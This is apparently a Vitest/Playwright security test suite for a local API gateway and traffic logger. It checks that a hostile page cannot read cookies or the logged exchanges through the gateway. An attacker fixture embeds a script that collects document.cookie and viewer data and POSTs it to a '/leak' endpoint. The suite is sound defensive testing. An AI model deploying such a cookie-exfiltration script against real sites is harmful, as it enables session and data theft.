import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHAT_DELTAS } from './support/fake-upstream.ts';
import { launchBrowser } from './support/browser.ts';
import { startHarness, tempDir, type Harness } from './support/harness.ts';

// A hostile site and another service on this machine, as the user's browser meets them.
interface Site {
  server: http.Server;
  port: number;
  hits: { path: string; headers: http.IncomingHttpHeaders }[];
}

async function site(handler: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Site> {
  const hits: Site['hits'] = [];
  const server = http.createServer((req, res) => {
    hits.push({ path: req.url ?? '', headers: req.headers });
    handler(req, res);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

let h: Harness;
let browser: Browser;
let context: BrowserContext;
let attacker: Site;
let service: Site;
let dir: string;
const gateway = () => `http://127.0.0.1:${h.wirelog.proxy.port}`;

beforeAll(async () => {
  h = await startHarness();
  browser = await launchBrowser();
  context = await browser.newContext();
  dir = tempDir('wirelog-gw-browser-');
  // The attacker's page tries what a page with the gateway's origin could: read the viewer, read cookies, send them home.
  attacker = await site((req, res) => {
    if (req.url === '/start.html') {
      res.writeHead(200, { 'content-type': 'text/html' });
      return void res.end(
        `<script>location = ${JSON.stringify(`${gateway()}/http/127.0.0.1:${attacker.port}/evil.html`)}</script>`,
      );
    }
    if (req.url === '/evil.html') {
      res.writeHead(200, { 'content-type': 'text/html' });
      const viewer = `/http/LOCALHOST:${h.wirelog.viewer!.port}/api/exchanges`;
      return void res.end(`<script>
        (async () => {
          let loot = document.cookie;
          try { loot += await (await fetch(${JSON.stringify(viewer)})).text(); } catch (e) { loot += 'blocked'; }
          await fetch('http://localhost:${attacker.port}/leak', { method: 'POST', mode: 'no-cors', body: loot });
        })();
      </script>`);
    }
    res.writeHead(204);
    res.end();
  });
  // A local service with a session cookie, which every 127.0.0.1 page shares (cookies are per host, not port).
  service = await site((req, res) => {
    if (req.url === '/login') {
      res.writeHead(200, {
        'content-type': 'text/html',
        'set-cookie': 'service_session=s3cr3t-service-cookie; SameSite=Lax; Path=/',
      });
      return void res.end('<title>service</title>');
    }
    if (req.url === '/sets-cookie') {
      res.writeHead(200, {
        'content-type': 'application/json',
        'access-control-allow-origin': req.headers.origin ?? '*',
        'access-control-allow-credentials': 'true',
        'set-cookie': 'planted=by-upstream; SameSite=Lax; Path=/',
      });
      return void res.end('{}');
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<title>page</title>');
  });
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  for (const s of [attacker, service]) await new Promise((r) => s?.server.close(r));
  await h?.close();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

describe('a hostile page and the gateway, in Chromium', () => {
  it('a page that sends the browser to the gateway gets a sandboxed refusal: its upstream is never asked, nothing is read or sent home', async () => {
    const tab = await context.newPage();
    await tab.goto(`http://127.0.0.1:${service.port}/login`);
    const landed = tab.waitForURL(`${gateway()}/**`, { timeout: 15_000 });
    await tab.goto(`http://localhost:${attacker.port}/start.html`);
    await landed;
    await tab.waitForLoadState('load', { timeout: 15_000 });
    expect(await tab.textContent('body')).toContain('for API clients');
    // The refusal itself runs in an opaque origin: no cookies of 127.0.0.1, no same-origin reads.
    expect(await tab.evaluate(() => window.origin)).toBe('null');
    expect(
      await tab.evaluate(() => {
        try {
          return document.cookie;
        } catch (err) {
          return (err as Error).name;
        }
      }),
    ).toBe('SecurityError');
    expect(attacker.hits.map((x) => x.path)).toEqual(['/start.html']);
    await h.stored();
    const refused = h.wirelog.reader.list({ limit: 100 }).filter((e) => /for API clients/.test(e.error ?? ''));
    expect(refused).toHaveLength(1);
    await tab.close();
  });

  it("a page on this machine's own site calls the gateway with credentials: its cookies stay home, the upstream's cookie is not planted on 127.0.0.1", async () => {
    const tab = await context.newPage();
    await tab.goto(`http://127.0.0.1:${service.port}/login`);
    expect(await tab.evaluate(() => document.cookie)).toContain('service_session=');
    const before = service.hits.length;
    const status = await tab.evaluate(
      async (url) => (await fetch(url, { credentials: 'include' })).status,
      `${gateway()}/http/127.0.0.1:${service.port}/sets-cookie`,
    );
    expect(status).toBe(200);
    const sent = service.hits.slice(before).find((x) => x.path === '/sets-cookie')!;
    expect(sent.headers.cookie).toBeUndefined();
    const cookies = await context.cookies(`http://127.0.0.1:${service.port}/`);
    expect(cookies.map((c) => c.name)).toEqual(['service_session']);
    await tab.close();
  });

  it('Cherry Studio-style fetch from a file:// page still streams a chat completion through the gateway (preflight, Origin null)', async () => {
    const file = path.join(dir, 'client.html');
    fs.writeFileSync(file, '<!doctype html><title>client</title>');
    const tab = await context.newPage();
    await tab.goto(`file://${file}`);
    const text = await tab.evaluate(async (url) => {
      const res = await fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: 'Bearer sk-file-page-key-00001111' },
        body: JSON.stringify({ model: 'file-client', stream: true, messages: [{ role: 'user', content: 'hi' }] }),
      });
      return `${res.status} ${await res.text()}`;
    }, `${gateway()}/https/localhost:${h.upstream.httpsPort}/v1/chat/completions`);
    expect(text.startsWith('200 ')).toBe(true);
    for (const delta of CHAT_DELTAS) expect(text).toContain(JSON.stringify(delta).slice(1, -1));
    await tab.close();
  });
});
